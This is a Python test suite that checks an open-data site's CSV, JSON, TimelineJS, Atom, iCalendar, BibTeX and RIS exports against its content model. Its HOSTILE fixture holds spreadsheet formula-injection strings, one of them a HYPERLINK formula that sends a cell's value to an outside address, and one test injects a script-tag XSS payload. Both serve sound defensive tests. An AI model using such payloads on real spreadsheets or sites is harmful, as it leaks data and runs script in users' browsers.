"""Open data: every export read back by an independent, well-kept reader and compared with the
model, record by record — CSV (the standard library and frictionless against the published
Table Schemas), JSON (jsonschema against the published schema), TimelineJS (its documented
format), Atom (feedparser), iCalendar (icalendar), BibTeX (bibtexparser) and RIS (rispy).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urljoin

import bibtexparser
import feedparser
import icalendar
import jsonschema
import markdown
import pytest
import rispy
import yaml
from frictionless import Dialect, Package, Resource, formats

from generator.content.dates import french_span
from generator.content.site import Site
from generator.content.validate import load_site
from generator.outputs.exports import BIBTEX_PATH, RIS_PATH, TIMELINE_PATH, open_data, references
from generator.outputs.exports.feeds import CALENDAR_PATH, FEED_PATH
from generator.pages.citations import Citations
from generator.pages.typography import Typesetter
from generator.text.urls import article_slugs

from .support import FROZEN, OPEN_DATA_TABLES, ROOT, TIMELINEJS_FORMAT, mkdocs_build

SITE_URL = "https://clus-ter-jura.github.io/regard/"
UPDATED = dt.date(2026, 3, 14)


@pytest.fixture(scope="module")
def site() -> Site:
    return load_site(FROZEN)


def every_file(site: Site, site_url: str = SITE_URL, updated: dt.date | None = UPDATED
               ) -> dict[str, bytes]:
    data = open_data(site, site_url, updated)
    return dict([*data.files, *data.citation_files])


@pytest.fixture(scope="module")
def files(site) -> dict[str, bytes]:
    return every_file(site)


@pytest.fixture(scope="module")
def built(frozen_site: Path) -> Path:
    """The frozen content's site, built with MkDocs as it is published (the session's
    build: read it, never write into it)."""
    return frozen_site


class _Text(HTMLParser):
    """The text of an HTML fragment, as a browser would show it (an independent reader)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def words_of_markdown(text: str) -> str:
    """What a Markdown field says, as words: converted by Python-Markdown, tags dropped."""
    parser = _Text()
    parser.feed(markdown.markdown(text))
    return " ".join("".join(parser.parts).split())


def words(text: str) -> str:
    return " ".join(text.replace("\n- ", " ").split())


def read_csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""),
                               delimiter=";"))


# CSV ----------------------------------------------------------------------------------------


def test_csv_files_are_utf8_with_bom_semicolons_and_crlf(files):
    for name in OPEN_DATA_TABLES:
        content = files[f"donnees/{name}.csv"]
        assert content.startswith(b"\xef\xbb\xbf"), name
        header = content[3:].split(b"\r\n", 1)[0].decode("utf-8")
        assert ";" in header and "," not in header, name
        # Every record ends with CRLF; a bare LF only appears inside a quoted cell.
        assert content.endswith(b"\r\n")
        outside_quotes = re.sub(rb'"(?:[^"]|"")*"', b"", content)
        assert b"\n" not in outside_quotes.replace(b"\r\n", b""), name


def test_events_csv_equals_the_model_event_by_event(site, files):
    rows = read_csv(files["donnees/evenements.csv"])
    assert [r["id"] for r in rows] == [e.id for e in site.events]
    for row, event in zip(rows, site.events, strict=True):
        assert row["debut"] == event.date.iso()
        assert row["fin"] == (event.end.iso() if event.end else "")
        assert row["precision"] == {"year": "année", "month": "mois", "day": "jour"}[
            event.date.precision]
        assert (row["annee"], row["mois"], row["jour"]) == (
            str(event.date.year), str(event.date.month or ""), str(event.date.day or ""))
        assert row["titre"] == event.title
        assert row["categories"].split(" | ") == event.categories
        assert row["categories_libelles"].split(" | ") == [
            site.categories[c].label for c in event.categories]
        assert words(row["resume"]) == words_of_markdown(event.summary)
        for column, ids in (("terrains", event.projects), ("personnes", event.people),
                            ("organisations", event.organisations), ("notions", event.terms)):
            assert (row[column].split(" | ") if row[column] else []) == ids
        assert row["url"] == f"{SITE_URL}evenements/{event.id}/"


def test_a_summary_of_several_paragraphs_stays_in_one_cell(tmp_path, minimal):
    timeline = minimal / "timeline.yml"
    text = timeline.read_text("utf-8").replace(
        "summary: Présentation des résultats.",
        "summary: |-\n      Premier paragraphe ; « guillemets ».\n\n"
        "      Second paragraphe, avec \"des guillemets droits\".")
    timeline.write_text(text, "utf-8")
    site = load_site(minimal)
    rows = read_csv(every_file(site)["donnees/evenements.csv"])
    row = next(r for r in rows if r["id"] == "journees")
    assert row["resume"] == ("Premier paragraphe ; « guillemets ».\n\n"
                             'Second paragraphe, avec "des guillemets droits".')
    assert len(rows) == len(site.events)


def test_other_tables_equal_the_model(site, files):
    projects = read_csv(files["donnees/terrains.csv"])
    assert [(r["id"], r["nom"]) for r in projects] == [
        (p.id, p.name) for p in site.projects.values()]
    for row, project in zip(projects, site.projects.values(), strict=True):
        assert row["annees"].split(" | ") == [str(y) for y in project.years]
        assert (row["evenements"].split(" | ") if row["evenements"] else []) == [
            e.id for e in site.events_of[f"project:{project.id}"]]

    people = read_csv(files["donnees/personnes.csv"])
    assert [(r["id"], r["nom"], r["role"], r["affiliation"]) for r in people] == [
        (p.id, p.name, p.role or "", p.affiliation or "") for p in site.people.values()]
    for row in people:
        seats = site.seats_of[f"person:{row['id']}"]
        assert (row["sieges"].split(" | ") if row["sieges"] else []) == [
            s.committee.name + (f" : {s.role}" if s.role else "")
            + (f" ({s.organisation.name})" if s.organisation else "") for s in seats]
    assert sum(1 for r in people if r["sieges"]) == len(
        {p for c in site.committees for s in c.members for p in s.people})

    glossary = read_csv(files["donnees/glossaire.csv"])
    # Each term's definitions, then the places where the source names it without defining it.
    expected = [(t.id, str(n), t.term, t.acronym or "", d.date.iso() if d.date else "",
                 d.event or "", "définition") for t in site.terms.values()
                for n, d in enumerate(t.definitions, start=1)]
    expected += [(t.id, str(n), t.term, t.acronym or "", "", m.event or "", "mention")
                 for t in site.terms.values()
                 for n, m in enumerate(t.mentions, start=len(t.definitions) + 1)]
    key = {(row[0], int(row[1])): i for i, row in enumerate(expected)}
    expected.sort(key=lambda row: (list(site.terms).index(row[0]), int(row[1])))
    assert [(r["id"], r["numero"], r["terme"], r["sigle"], r["date"], r["evenement"],
             r["nature"]) for r in glossary] == expected
    assert len(key) == len(expected)
    for row, (term_id, number, *_rest) in zip(glossary, expected, strict=True):
        term = site.terms[term_id]
        said = [*term.definitions, *term.mentions][int(number) - 1]
        assert words(row["definition"]) == words_of_markdown(said.text)

    publications = read_csv(files["donnees/publications.csv"])
    assert [(r["id"], r["titre"], r["statut"], r["numero"]) for r in publications] == [
        (p.id, p.title, p.status, p.issue or "") for p in site.publications]
    articles = read_csv(files["donnees/articles.csv"])
    assert [(r["publication"], r["titre"], r["auteurs"], r["page"]) for r in articles] == [
        (p.id, a.title, " | ".join(a.authors), str(a.page or "")) for p in site.publications
        for a in p.articles]


def test_frictionless_validates_every_table_against_its_published_schema(built):
    donnees = built / "donnees"
    package = Package(str(donnees / "datapackage.json"))
    assert [r.name for r in package.resources] == OPEN_DATA_TABLES
    report = package.validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    # The package's own dialect was read: every table has its columns and rows.
    assert [(t.stats["fields"], t.stats["rows"]) for t in report.tasks] == [
        (len(read_csv((donnees / f"{n}.csv").read_bytes())[0]),
         len(read_csv((donnees / f"{n}.csv").read_bytes()))) for n in OPEN_DATA_TABLES]


def test_frictionless_rejects_a_table_that_breaks_its_schema(built, tmp_path):
    for name in ("evenements.csv", "evenements.schema.json"):
        (tmp_path / name).write_bytes((built / "donnees" / name).read_bytes())
    broken = (tmp_path / "evenements.csv").read_bytes().replace(
        b"\r\nnaissance-clus-ter-jura;2014;", b"\r\nNaissance Clus;14;", 1)
    (tmp_path / "evenements.csv").write_bytes(broken)
    errors = _resource(tmp_path, "evenements").validate().flatten(["fieldName", "type"])
    assert ["id", "constraint-error"] in errors and ["debut", "constraint-error"] in errors


def _resource(folder: Path, name: str) -> Resource:
    """One CSV file and its published Table Schema, read as the schema's page says."""
    return Resource(path=f"{name}.csv", schema=f"{name}.schema.json", basepath=str(folder),
                    encoding="utf-8-sig",
                    dialect=Dialect(controls=[formats.CsvControl(delimiter=";")]))


HOSTILE = {
    "title": "=HYPERLINK(\"https://exemple.org/?\"&A1;\"clic\")",
    "summary": "+1+2 ; @SOMME(A1:A9)",
    "name": "@Ada Martin",
    "term": "-2+3 {accolade} \\ 100 % & _ # ~ $",
    "place": "Lons { ouverte ^",
}


@pytest.fixture
def hostile_site(minimal) -> Site:
    """The minimal fixture with formula-like and LaTeX-hostile text in its fields."""
    timeline = minimal / "timeline.yml"
    data = yaml.safe_load(timeline.read_text("utf-8"))
    data["events"][0]["title"] = HOSTILE["title"]
    data["events"][0]["summary"] = HOSTILE["summary"]
    data["events"][2]["title"] = HOSTILE["place"]
    timeline.write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")
    people = minimal / "content" / "people.yml"
    data = yaml.safe_load(people.read_text("utf-8"))
    data["people"][0]["name"] = HOSTILE["name"]
    people.write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")
    glossary = minimal / "content" / "glossary.yml"
    data = yaml.safe_load(glossary.read_text("utf-8"))
    data["terms"][0]["term"] = HOSTILE["term"]
    glossary.write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")
    return load_site(minimal)


def test_no_csv_cell_can_run_as_a_spreadsheet_formula(hostile_site):
    files = every_file(hostile_site)
    seen = set()
    for name in OPEN_DATA_TABLES:
        for row in csv.reader(io.StringIO(files[f"donnees/{name}.csv"].decode("utf-8-sig"),
                                          newline=""), delimiter=";"):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
                seen.add(cell)
    # The text is kept whole, after the apostrophe that spreadsheets show as text.
    assert "'" + HOSTILE["title"] in seen
    assert "'" + HOSTILE["summary"] in seen
    assert "'" + HOSTILE["name"] in seen
    assert "'" + HOSTILE["term"] in seen


# JSON ---------------------------------------------------------------------------------------


def _validator(files):
    schema = json.loads(files["donnees/regard.schema.json"])
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())


def test_the_whole_dataset_and_each_kind_validate_against_the_published_schema(files):
    validator = _validator(files)
    names = ["regard", "categories", "periodes", "evenements", "terrains", "glossaire",
             "personnes", "organisations", "comites", "publications"]
    for name in names:
        data = json.loads(files[f"donnees/{name}.json"])
        errors = [e.message for e in validator.iter_errors(data)]
        assert errors == [], name


def test_the_schema_rejects_a_record_that_breaks_the_model(files):
    validator = _validator(files)
    data = json.loads(files["donnees/evenements.json"])
    del data["events"][0]["title"]
    data["events"][1]["date"] = "2024-13"
    data["events"][2]["couleur"] = "rouge"
    messages = [e.message for e in validator.iter_errors(data)]
    assert len(messages) == 3, messages


def test_json_records_equal_the_model_with_their_urls(site, files):
    data = json.loads(files["donnees/regard.json"])
    assert data["updated"] == UPDATED.isoformat()
    assert data["licence"] is None
    assert [e["id"] for e in data["events"]] == [e.id for e in site.events]
    for record, event in zip(data["events"], site.events, strict=True):
        assert record["date"] == event.date.iso()
        assert record["title"] == event.title
        assert record["summary"] == event.summary
        assert record["categories"] == event.categories
        assert record["url"] == f"{SITE_URL}evenements/{event.id}/"
    assert [p["id"] for p in data["projects"]] == list(site.projects)
    assert [p["name"] for p in data["people"]] == [p.name for p in site.people.values()]
    assert [t["term"] for t in data["terms"]] == [t.term for t in site.terms.values()]
    assert [c["id"] for c in data["committees"]] == [c.id for c in site.committees]
    assert [p["id"] for p in data["publications"]] == [p.id for p in site.publications]
    assert json.loads(files["donnees/evenements.json"])["events"] == data["events"]


def test_every_cross_reference_in_the_json_names_a_record_it_holds(files):
    data = json.loads(files["donnees/regard.json"])
    ids = {key: {r["id"] for r in data[key]} for key in
           ("legend", "events", "projects", "terms", "people", "organisations")}
    refs = 0
    for event in data["events"]:
        for key, kind in (("categories", "legend"), ("projects", "projects"),
                          ("people", "people"), ("organisations", "organisations"),
                          ("terms", "terms")):
            assert set(event[key]) <= ids[kind]
            refs += len(event[key])
    for term in data["terms"]:
        for definition in term["definitions"]:
            assert definition["event"] is None or definition["event"] in ids["events"]
    for committee in data["committees"]:
        for seat in committee["members"]:
            assert set(seat["people"]) <= ids["people"]
            assert seat["organisation"] is None or seat["organisation"] in ids["organisations"]
    for publication in data["publications"]:
        for article in publication["articles"]:
            assert set(article["authors"]) <= ids["people"]
    assert refs > 100


# TimelineJS -----------------------------------------------------------------------------------



def test_timelinejs_json_follows_the_documented_format(files):
    data = json.loads(files[TIMELINE_PATH])
    errors = [f"{list(e.path)}: {e.message}" for e in
              jsonschema.Draft202012Validator(TIMELINEJS_FORMAT).iter_errors(data)]
    assert errors == []


def test_timelinejs_slides_carry_each_event_at_its_precision(site, files):
    data = json.loads(files[TIMELINE_PATH])
    assert data["title"]["text"]["headline"]
    slides = data["events"]
    assert [s["unique_id"] for s in slides] == [e.id for e in site.events]
    assert len({s["unique_id"] for s in slides} | {data["title"]["unique_id"]}) == len(slides) + 1
    for slide, event in zip(slides, site.events, strict=True):
        expected = {"year": event.date.year}
        if event.date.month:
            expected["month"] = event.date.month
        if event.date.day:
            expected["day"] = event.date.day
        assert slide["start_date"] == expected
        if event.end:
            assert slide["end_date"]["year"] == event.end.year
            assert slide["end_date"].get("month") == event.end.month
        else:
            assert "end_date" not in slide
        assert slide["group"] == site.categories[event.categories[0]].label.replace(
            "&", "&amp;")
        assert words_of_markdown(event.summary) in " ".join(
            _html_text(slide["text"]["text"]).split())
    assert [_html_text(e["text"]["headline"]) for e in data["eras"]] == [
        p.title for p in site.timeline.periods]
    assert all("end_date" in e for e in data["eras"])


def _html_text(fragment: str) -> str:
    parser = _Text()
    parser.feed(fragment)
    return "".join(parser.parts)


def test_timelinejs_media_keep_their_credit_and_text_stays_text(hostile_site):
    data = json.loads(every_file(hostile_site)[TIMELINE_PATH])
    journees = next(s for s in data["events"] if s["unique_id"] == "journees")
    assert journees["media"] == {
        "url": "https://clus-ter-jura.github.io/regard/media/journees.png",
        "alt": "Des intervenants sur une scène", "caption": "Des intervenants sur une scène",
        "credit": "Crédit photo : @Clus'Ter Jura"}
    assert journees["end_date"] == {"year": 2025, "month": 11, "day": 29}
    hostile = next(s for s in data["events"] if s["unique_id"] == "lancement")
    # TimelineJS reads headlines as HTML: the title comes back as the same text.
    assert _html_text(hostile["text"]["headline"]) == HOSTILE["title"]
    assert "<" not in hostile["text"]["headline"].replace("&lt;", "")


# Atom -----------------------------------------------------------------------------------------


def test_the_atom_feed_is_valid_french_newest_first_and_links_to_each_event_page(site, built):
    feed = feedparser.parse((built / FEED_PATH).read_bytes())
    assert feed.bozo == 0, feed.get("bozo_exception")
    assert feed.version == "atom10"
    assert feed.feed.language == "fr"
    assert feed.feed.author == "Clus'Ter Jura"
    assert feed.feed.id and feed.feed.updated
    events = list(reversed(site.events))
    assert len(feed.entries) == len(events)
    for entry, event in zip(feed.entries, events, strict=True):
        assert entry.title.endswith(" — " + event.title)
        assert entry.link == f"{SITE_URL}evenements/{event.id}/"
        assert (built / "evenements" / event.id / "index.html").is_file()
        assert [t.term for t in entry.tags] == event.categories
        assert entry.id.startswith("urn:uuid:") and entry.updated
    keys = [e.date.key for e in events]
    assert keys == sorted(keys, reverse=True)
    assert len({e.id for e in feed.entries}) == len(feed.entries)


@pytest.mark.parametrize("text", ["", "Châtel & co", "a < b > c", 'il dit "oui"', "l'été",
                                  "\"l'un\" & <l'autre>", "ligne\nsuivante\r\tfin",
                                  "contrôle\x01\x0b\ufffe retiré"])
def test_feed_text_and_attributes_are_escaped_as_the_standard_xml_writer_does(text):
    # The feed escapes without xml.sax.saxutils (whose import costs every build a
    # hundredth of a second): the same characters, the same quotes.
    from xml.sax.saxutils import escape, quoteattr

    from generator.outputs.exports.feeds import _XML_INVALID, _attr, _xml

    valid = _XML_INVALID.sub("", text)
    assert _xml(text) == escape(valid)
    assert _attr(text) == quoteattr(valid)


def test_every_page_advertises_the_feed(built):
    pages = sorted(built.rglob("*.html"))
    assert len(pages) > 50
    for page in pages:
        html = page.read_text("utf-8")
        links = re.findall(r'<link rel="alternate" type="application/atom\+xml"[^>]*>', html)
        assert len(links) == 1, page
        # Relative, so that a copy served elsewhere does not reach for the published site.
        href = re.search(r'href="([^"]+)"', links[0])[1]
        address = SITE_URL + page.relative_to(built).as_posix().removesuffix("index.html")
        assert urljoin(address, href) == SITE_URL + FEED_PATH, page


# iCalendar -----------------------------------------------------------------------------------


def test_the_calendar_has_one_all_day_event_per_event_at_its_precision(site, files):
    content = files[CALENDAR_PATH]
    assert all(len(line) <= 75 for line in content.split(b"\r\n"))
    calendar = icalendar.Calendar.from_ical(content)
    events = calendar.walk("VEVENT")
    assert [str(v["SUMMARY"]) for v in events] == [e.title for e in site.events]
    assert len({str(v["UID"]) for v in events}) == len(events)
    for vevent, event in zip(events, site.events, strict=True):
        start, end = vevent.decoded("DTSTART"), vevent.decoded("DTEND")
        assert type(start) is dt.date and type(end) is dt.date  # all day
        assert start == dt.date(event.date.year, event.date.month or 1, event.date.day or 1)
        last = event.end or event.date
        if last.day:
            expected_end = dt.date(last.year, last.month, last.day) + dt.timedelta(days=1)
        elif last.month:
            expected_end = (dt.date(last.year + (last.month == 12), last.month % 12 + 1, 1))
        else:
            expected_end = dt.date(last.year + 1, 1, 1)
        assert end == expected_end, event.id
        assert str(vevent["URL"]) == f"{SITE_URL}evenements/{event.id}/"
        description = str(vevent["DESCRIPTION"])
        assert words(description).startswith(words(event.date.french() if not event.end
                                                    else description.split("\n")[0]))
        assert [str(c) for c in vevent["CATEGORIES"].cats] == [
            site.categories[c].label for c in event.categories]


def test_uids_do_not_depend_on_the_sites_address(site):
    def uids(url: str) -> list[str]:
        content = every_file(site, url)[CALENDAR_PATH]
        return [str(v["UID"]) for v in icalendar.Calendar.from_ical(content).walk("VEVENT")]

    assert uids(SITE_URL) == uids("http://127.0.0.1:8000/")


# BibTeX and RIS ------------------------------------------------------------------------------


def _bibtex(text: str):
    library = bibtexparser.parse_string(
        text, append_middleware=[bibtexparser.middlewares.LatexDecodingMiddleware()])
    assert library.failed_blocks == []
    return library


def test_bibtex_entries_equal_the_model(site, files):
    library = _bibtex(files[BIBTEX_PATH].decode("utf-8"))
    refs = references(site, Citations(site, SITE_URL, UPDATED))
    assert [e.key for e in library.entries] == [r.key for r in refs]
    by_key = {e.key: e for e in library.entries}
    for event in site.events:
        entry = by_key[f"regard-evenement-{event.id}"]
        assert entry.entry_type == "misc"
        # A web page is dated by the content's last change; the event's date is in its title.
        span = french_span(event.date, event.end)
        assert entry["title"] == f"{event.title} ({span})"
        assert entry["author"] == "{Clus'Ter Jura}" or entry["author"] == "Clus'Ter Jura"
        assert (entry["year"], entry["date"]) == (str(UPDATED.year), UPDATED.isoformat())
        assert entry["note"] == f"Date de l'événement : {span}"
        assert entry["url"] == f"{SITE_URL}evenements/{event.id}/"
        # Built once, never with the day it was built: the page's script adds the reader's.
        assert "urldate" not in entry.fields_dict
    for publication in site.publications:
        slugs = article_slugs(publication.articles)
        for article, slug in zip(publication.articles, slugs, strict=True):
            entry = by_key[f"regard-article-{publication.id}-{slug}"]
            assert entry["title"] == article.title
            author = entry.fields_dict.get("author")
            assert (author.value.split(" and ") if author else []) == [
                _inverted(site, a) for a in article.authors]
            if article.page is not None:
                assert entry["pages"] == str(article.page)
            if publication.issue:
                assert entry.entry_type == "article"
                assert entry["number"] == publication.issue
                assert entry["journal"] == site.organisations[publication.publisher].name
    # One file per record, equal to its entry in the bundle.
    for ref in refs[:5] + refs[-5:]:
        single = _bibtex(files[f"donnees/citer/{ref.key}.bib"].decode("utf-8"))
        assert [(e.key, e.fields_dict.keys()) for e in single.entries] == [
            (ref.key, by_key[ref.key].fields_dict.keys())]


def _inverted(site: Site, person_id: str) -> str:
    name = site.people[person_id].name
    given, _, family = name.rpartition(" ")
    if person_id == "diane-de-mareschal":
        given, family = "Diane", "de Mareschal"
    return f"{family}, {given}"


def test_ris_records_equal_the_model(site, files):
    records = rispy.loads(files[RIS_PATH].decode("utf-8"))
    refs = references(site, Citations(site, SITE_URL, UPDATED))
    assert [r["id"] for r in records] == [r.key for r in refs]
    by_id = {r["id"]: r for r in records}
    for event in site.events:
        record = by_id[f"regard-evenement-{event.id}"]
        assert record["type_of_reference"] == "ELEC"
        assert record["title"] == f"{event.title} ({french_span(event.date, event.end)})"
        assert record["authors"] == ["Clus'Ter Jura"]
        assert record["urls"] == [f"{SITE_URL}evenements/{event.id}/"]
        assert record["date"] == UPDATED.strftime("%Y/%m/%d/")
        assert record["year"] == str(UPDATED.year)
        assert "access_date" not in record
    horizons = next(p for p in site.publications if p.issue)
    for article, slug in zip(horizons.articles, article_slugs(horizons.articles), strict=True):
        record = by_id[f"regard-article-{horizons.id}-{slug}"]
        assert record["type_of_reference"] == "JOUR"
        assert record.get("authors", []) == [_inverted(site, a) for a in article.authors]
        assert record["journal_name"] == site.organisations[horizons.publisher].name
        assert record["number"] == horizons.issue
        assert record.get("start_page") == (str(article.page) if article.page else None)
    thesis = by_id["regard-publication-these-camille-henrion"]
    assert thesis["type_of_reference"] == "THES" and thesis["authors"] == ["Henrion, Camille"]


def test_bibtex_and_ris_give_back_hostile_text_as_it_is(hostile_site):
    files = every_file(hostile_site)
    library = _bibtex(files[BIBTEX_PATH].decode("utf-8"))
    by_key = {e.key: e for e in library.entries}
    assert by_key["regard-notion-ect"]["title"] == f"{HOSTILE['term']} (ECT)"
    assert by_key["regard-evenement-lancement"]["title"].startswith(HOSTILE["title"] + " (")
    # A brace without its pair never unbalances an entry: every field is read, none
    # swallowed (LaTeX's own commands for the characters that BibTeX would misread).
    assert all("url" in entry and "language" in entry for entry in library.entries)
    raw = bibtexparser.parse_string(files[BIBTEX_PATH].decode("utf-8"))
    event = {e.key: e for e in raw.entries}["regard-evenement-journees"]
    assert event["title"].startswith(r"Lons \textbraceleft{} ouverte \textasciicircum{} (")
    records = {r["id"]: r for r in rispy.loads(files[RIS_PATH].decode("utf-8"))}
    assert records["regard-notion-ect"]["title"] == f"{HOSTILE['term']} (ECT)"
    assert records["regard-article-hors-serie-article-1"]["authors"] == ["Martin, @Ada"]


# The site ------------------------------------------------------------------------------------


def test_open_data_page_lists_every_file_with_its_fields_and_says_no_licence_is_given(built):
    html = (built / "donnees" / "index.html").read_text("utf-8")
    for path in [*(f"donnees/{t}.csv" for t in OPEN_DATA_TABLES), "donnees/regard.json",
                 "donnees/regard.schema.json", "donnees/evenements.json", TIMELINE_PATH,
                 FEED_PATH, CALENDAR_PATH, BIBTEX_PATH, RIS_PATH, "donnees/datapackage.json"]:
        name = path.removeprefix("donnees/") if path.startswith("donnees/") else f"../{path}"
        assert f'href="{name}"' in html, name
        assert (built / path).is_file(), path
    assert "aucune licence" in html
    assert "Dernière mise à jour" in html
    for column in ("categories_libelles", "date_affichee", "fin_annee"):
        assert f"<code>{column.replace('_', '&#95;')}</code>" in html or \
            f"<code>{column}</code>" in html
    nav = (built / "index.html").read_text("utf-8")
    assert re.search(r'<a href="donnees/"[^>]*>\s*Données ouvertes', nav)


def test_each_citable_record_offers_a_reference_and_its_files(site, built):
    chronology = (built / "chronologie" / "index.html").read_text("utf-8")
    cards = re.findall(r'<li class="rd-event" id="([^"]+)".*?</li>\n', chronology, re.S)
    assert len(re.findall(r'<details class="rd-cite"', chronology)) == len(site.events)
    for event_id in cards[:3]:
        box = re.search(rf'id="{event_id}".*?<details class="rd-cite".*?</details>',
                        chronology, re.S).group(0)
        text = _html_text(re.search(r"data-rd-cite-text>(.*?)</p>", box, re.S).group(1))
        event = site.event_by_id[event_id]
        # As displayed: in French typography (the page's text is typeset at build time).
        span = french_span(event.date, event.end)
        assert text.startswith(Typesetter().text(f"Clus'Ter Jura. « {event.title} ({span}) »"))
        # The access date is the reader's to fill (the page's script fills it on copy).
        assert f"{SITE_URL}evenements/{event.id}/" in text
        assert text.endswith("(consulté le [date]).") and "…" not in text
        for extension in ("bib", "ris"):
            link = re.search(rf'href="([^"]+\.{extension})"', box).group(1)
            assert (built / "chronologie" / link).resolve().is_file()
    for project in site.projects:
        assert 'data-rd-cite' in (built / "terrains" / project / "index.html").read_text("utf-8")
    glossary = (built / "glossaire" / "index.html").read_text("utf-8")
    assert glossary.count('<details class="rd-cite"') == len(site.terms)
    publications = (built / "publications" / "index.html").read_text("utf-8")
    assert publications.count('<details class="rd-cite"') == len(site.publications)


class _Meta(HTMLParser):
    """The ``<meta name content>`` pairs of a page's head, as Zotero's connector reads them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.pairs: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "meta" and values.get("name") and values.get("content") is not None:
            self.pairs.append((values["name"] or "", values["content"] or ""))


def meta_tags(html: str) -> list[tuple[str, str]]:
    parser = _Meta()
    parser.feed(html)
    return parser.pairs


def test_article_pages_carry_the_tags_zotero_reads(site, built):
    horizons = next(p for p in site.publications if p.issue)
    for article, slug in zip(horizons.articles, article_slugs(horizons.articles), strict=True):
        html = (built / "publications" / horizons.id / slug / "index.html").read_text("utf-8")
        tags = meta_tags(html)
        get = dict(tags)
        assert get["citation_title"] == article.title
        assert [v for k, v in tags if k == "citation_author"] == [
            _inverted(site, a) for a in article.authors]
        assert get["citation_journal_title"] == "Horizons Publics"
        assert get["citation_issue"] == horizons.issue
        assert get.get("citation_firstpage") == (str(article.page) if article.page else None)
        assert get["citation_publication_date"] == "2025"
        assert get["DC.title"] == article.title
    # Pages that are not works describe themselves as web pages by Clus'Ter Jura.
    chronology = dict(meta_tags((built / "chronologie" / "index.html").read_text("utf-8")))
    assert chronology["DC.creator"] == "Clus'Ter Jura"
    assert "citation_title" not in chronology


@pytest.mark.build
def test_hostile_text_in_head_tags_stays_text(minimal, tmp_path):
    publications = minimal / "content" / "publications.yml"
    data = yaml.safe_load(publications.read_text("utf-8"))
    title = '"><script>alert(1)</script> R&D \u2028 --- {{ x }}'
    data["publications"][0]["articles"][0]["title"] = title
    publications.write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")
    from .support import as_project

    as_project(minimal)
    mkdocs_build(minimal, tmp_path / "site")
    html = (tmp_path / "site" / "publications" / "hors-serie" / "article-1" / "index.html"
            ).read_text("utf-8")
    head = html.split("</head>")[0]
    assert "<script>alert" not in head
    assert dict(meta_tags(head))["citation_title"] == title


# Determinism and independence ---------------------------------------------------------------


def test_every_export_is_byte_identical_between_two_builds(built, tmp_path, frozen_project):
    """A second build, in another process with another hash seed, gives the same bytes."""
    env = dict(os.environ, PYTHONHASHSEED="12345", NO_MKDOCS_2_WARNING="1")
    subprocess.run([sys.executable, "-m", "mkdocs", "build", "-q", "-f",
                    str(frozen_project / "mkdocs.yml"), "-d", str(tmp_path / "again")],
                   check=True, env=env, cwd=frozen_project, capture_output=True)
    first = {p.relative_to(built).as_posix(): p.read_bytes()
             for p in sorted((built / "donnees").rglob("*")) if p.is_file()}
    second = {p.relative_to(tmp_path / "again").as_posix(): p.read_bytes()
              for p in sorted((tmp_path / "again" / "donnees").rglob("*")) if p.is_file()}
    assert len(first) > 200
    assert first.keys() == second.keys()
    assert [k for k in first if first[k] != second[k]] == []


def test_the_exports_know_nothing_of_mkdocs():
    code = ("import sys, generator.outputs.exports, generator.pages.citations; "
            "print(sorted(m for m in sys.modules if m.split('.')[0] == 'mkdocs'))")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                            check=True, cwd=ROOT)
    assert result.stdout.strip() == "[]"
